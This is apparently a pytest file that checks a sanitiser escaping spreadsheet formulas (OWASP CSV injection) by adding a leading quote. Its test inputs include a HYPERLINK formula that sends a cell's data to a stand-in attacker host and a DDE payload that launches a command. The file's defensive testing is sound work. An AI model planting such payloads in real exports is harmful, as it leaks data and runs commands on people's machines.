"""Cells a spreadsheet would run as a formula are written as text (OWASP CSV injection)."""

import pytest

from core.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?x="&B2,"x")',
            '\'=HYPERLINK("https://evil.example/?x="&B2,"x")',
        ),
        ("@cmd|' /C calc'!A0", "'@cmd|' /C calc'!A0"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann Smith", "Ann Smith"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_safe_cell_starts_a_formula_with_a_quote_and_leaves_the_rest(value, written):
    assert safe_cell(value) == written


def test_safe_row_makes_every_cell_safe():
    assert safe_row({"a": "=SUM(A1)", "b": "", "c": 3, "d": "fine"}) == {
        "a": "'=SUM(A1)",
        "b": "",
        "c": 3,
        "d": "fine",
    }
